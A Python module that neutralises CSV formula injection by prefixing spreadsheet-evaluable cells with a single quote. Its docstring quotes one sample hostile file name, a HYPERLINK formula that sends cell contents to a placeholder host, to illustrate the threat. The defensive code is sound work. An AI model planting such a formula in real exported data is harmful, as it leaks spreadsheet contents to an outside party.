"""CSV cells a spreadsheet will not run: the defence against formula ("CSV") injection.

A file dropped as ``=HYPERLINK("http://x/?"&A1,"photo").jpg`` ends up in the report's
path column; Excel and LibreOffice evaluate a cell that begins with ``=``, ``+``, ``-``
or ``@`` (and, after a tab or carriage return, the same). OWASP's advice is followed:
such a cell is prefixed with a single quote, which spreadsheets show as text. Plain
numbers (``-0.5``) are left alone so that measures stay numeric.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["SafeCsvWriter", "safe_cell"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` unchanged, unless it is text a spreadsheet would evaluate: then ``'`` + it."""
    if not isinstance(value, str) or not value.startswith(_FORMULA_START):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


class _RowWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, writer: _RowWriter) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> None:
        """Writes one row, neutralised."""
        self._writer.writerow([safe_cell(cell) for cell in row])
